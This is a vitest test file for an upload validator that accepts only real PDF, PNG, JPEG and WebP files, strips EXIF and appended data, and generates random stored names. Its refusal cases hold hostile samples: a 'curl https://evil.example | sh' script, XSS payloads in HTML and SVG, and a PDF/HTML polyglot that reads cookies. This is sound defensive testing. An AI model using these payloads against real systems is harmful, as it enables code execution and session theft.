import PDFDocument from 'pdfkit';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import {
  generateStoredName,
  inspectUpload,
  MAX_DOCUMENT_BYTES,
  prepareUpload,
  TOO_LARGE_MESSAGE,
  UNSUPPORTED_TYPE_MESSAGE,
} from './inspect-upload';

function tinyPdf(): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const doc = new PDFDocument({ size: 'A6' });
    const chunks: Buffer[] = [];
    doc.on('data', (chunk: Buffer) => chunks.push(chunk));
    doc.on('end', () => resolve(Buffer.concat(chunks)));
    doc.on('error', reject);
    doc.text('Approved travel document');
    doc.end();
  });
}

const pixels = () => sharp({ create: { width: 8, height: 8, channels: 3, background: '#3366cc' } });

describe('inspectUpload', () => {
  it('accepts a real PDF, PNG, JPEG and WebP by their content', async () => {
    expect(await inspectUpload(await tinyPdf())).toEqual({ ok: true, ext: 'pdf', mime: 'application/pdf' });
    expect(await inspectUpload(await pixels().png().toBuffer())).toEqual({ ok: true, ext: 'png', mime: 'image/png' });
    expect(await inspectUpload(await pixels().jpeg().toBuffer())).toEqual({ ok: true, ext: 'jpg', mime: 'image/jpeg' });
    expect(await inspectUpload(await pixels().webp().toBuffer())).toEqual({
      ok: true,
      ext: 'webp',
      mime: 'image/webp',
    });
  });

  it.each([
    ['a shell script named .pdf', '#!/bin/sh\ncurl https://evil.example | sh\n'],
    ['an HTML page', '<!doctype html><html><body><script>alert(1)</script></body></html>'],
    ['an SVG image', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>'],
    ['an SVG with an XML prolog', '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"></svg>'],
    ['a PDF/HTML polyglot', '%PDF-1.4\n<html><script>alert(document.cookie)</script></html>\n%%EOF\n'],
    ['a PDF with a payload after %%EOF', `%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n${'<script>x</script>'.repeat(200)}`],
    ['an empty file', ''],
  ])('refuses %s', async (_label, text) => {
    expect(await inspectUpload(Buffer.from(text))).toEqual({ ok: false, message: UNSUPPORTED_TYPE_MESSAGE });
  });

  it('refuses formats outside the four, such as GIF and ZIP', async () => {
    const gif = await pixels().gif().toBuffer();
    expect(await inspectUpload(gif)).toEqual({ ok: false, message: UNSUPPORTED_TYPE_MESSAGE });
    const zip = Buffer.from('504b0304140000000000', 'hex');
    expect((await inspectUpload(Buffer.concat([zip, Buffer.alloc(100)]))).ok).toBe(false);
  });

  it('refuses files over 10 MB', async () => {
    const big = Buffer.concat([await pixels().png().toBuffer(), Buffer.alloc(MAX_DOCUMENT_BYTES)]);
    expect(await inspectUpload(big)).toEqual({ ok: false, message: TOO_LARGE_MESSAGE });
  });
});

describe('prepareUpload', () => {
  it('re-encodes a JPEG without its EXIF and keeps the format', async () => {
    const withExif = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#aa3322' } })
      .jpeg()
      .withExif({ IFD0: { Make: 'SpyCam', Copyright: 'GPS 36.8485S 174.7633E' } })
      .toBuffer();
    expect((await sharp(withExif).metadata()).exif).toBeDefined();

    const prepared = await prepareUpload(withExif);
    if (!prepared.ok) throw new Error(prepared.message);
    expect(prepared.ext).toBe('jpg');
    const meta = await sharp(prepared.content).metadata();
    expect(meta.format).toBe('jpeg');
    expect(meta.exif).toBeUndefined();
    expect([meta.width, meta.height]).toEqual([64, 48]);
    expect(prepared.content.includes('SpyCam')).toBe(false);
  });

  it('drops data appended after the image', async () => {
    const png = await pixels().png().toBuffer();
    const prepared = await prepareUpload(Buffer.concat([png, Buffer.from('<script>alert(1)</script>')]));
    if (!prepared.ok) throw new Error(prepared.message);
    expect(prepared.ext).toBe('png');
    expect(prepared.content.includes('<script>')).toBe(false);
  });

  it('keeps a PDF byte for byte', async () => {
    const pdf = await tinyPdf();
    const prepared = await prepareUpload(pdf);
    expect(prepared.ok && prepared.content.equals(pdf)).toBe(true);
  });

  it('refuses a truncated image', async () => {
    const jpeg = await sharp({ create: { width: 200, height: 200, channels: 3, background: '#123456' } })
      .jpeg()
      .toBuffer();
    expect((await prepareUpload(jpeg.subarray(0, 200))).ok).toBe(false);
  });
});

describe('generateStoredName', () => {
  it('makes unguessable names with the extension', () => {
    const names = new Set(Array.from({ length: 1000 }, () => generateStoredName('pdf')));
    expect(names.size).toBe(1000);
    for (const name of names) expect(name).toMatch(/^[A-Za-z0-9_-]{22}\.pdf$/);
  });
});
